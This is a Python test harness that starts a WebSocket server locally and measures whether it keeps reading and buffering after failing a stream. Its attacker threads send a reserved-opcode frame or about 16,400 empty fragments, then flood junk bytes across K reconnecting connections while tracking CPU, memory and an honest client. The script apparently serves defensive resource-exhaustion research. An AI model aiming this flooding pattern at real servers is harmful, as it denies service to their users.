"""After the host fails a stream (here: a frame with a reserved opcode -> 1002, or
16,385 empty fragments on Node -> 1008), does it keep reading the socket, and does what
it reads still count toward max_assembling_bytes?  Attacker: K connections at once, each
triggers the failure then writes bulk bytes as fast as it can; reconnects when cut.
Usage: python3 after_fail.py HOST SECONDS [K] [TRIGGER=opcode|frag]
"""
import sys, os, time, threading, socket
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rt import *
from frag_budget_lib import honest_factory
HOST, SECS = sys.argv[1], float(sys.argv[2]); K = int(sys.argv[3]) if len(sys.argv) > 3 else 1
TRIG = sys.argv[4] if len(sys.argv) > 4 else "opcode"
p, port = start(HOST); out = drain_output(p)
honest = honest_factory(port)
print(f"# {HOST} after-fail {SECS}s K={K} trigger={TRIG}", flush=True)
print("before:", status(p.pid), honest(8 << 20), flush=True)
stop = [False]; wrote = [0]; conns = [0]; lifetimes = []
junk = b"\x00" * (1 << 20)
def attacker():
    while not stop[0]:
        try:
            s, _, _ = ws_connect(port)
        except Exception:
            time.sleep(0.05); continue
        conns[0] += 1; t = time.time()
        if TRIG == "opcode":
            s.sendall(frame(3, b""))
        else:
            s.sendall(frame(2, b"", fin=False) + frame(0, b"", fin=False) * 16400)
        s.settimeout(10)
        try:
            while not stop[0]:
                s.sendall(junk); wrote[0] += len(junk)
        except OSError:
            pass
        lifetimes.append(time.time() - t)
        s.close()
ths = [threading.Thread(target=attacker, daemon=True) for _ in range(K)]
t0 = time.time(); c0 = status(p.pid)["cpu_s"]
for t in ths: t.start()
ok = 0; n = 0
while time.time() - t0 < SECS:
    t1 = time.time(); r = honest(8 << 20); n += 1; ok += r[0] == "ok"
    st = status(p.pid)
    print(f"t={time.time()-t0:5.1f}s attacker wrote {wrote[0]/2**20:8.0f} MiB over {conns[0]} conns, host CPU {st['cpu_s']-c0:6.2f}s rss {st['rss_mib']} | honest 8MiB {r}", flush=True)
    time.sleep(max(0, 1 - (time.time() - t1)))
stop[0] = True; dt = time.time() - t0; st = status(p.pid)
lt = sorted(lifetimes)
print(f"done: {dt:.1f}s attacker wrote {wrote[0]/2**20:.0f} MiB ({wrote[0]/dt/2**20:.0f} MiB/s) over {conns[0]} conns (lifetime p50 {lt[len(lt)//2] if lt else 0:.2f}s); host CPU {st['cpu_s']-c0:.2f}s = {(st['cpu_s']-c0)/dt*100:.0f}% of a core; honest 8 MiB ok {ok}/{n}", flush=True)
time.sleep(1); print("after:", honest(8 << 20), status(p.pid))
kill(p)
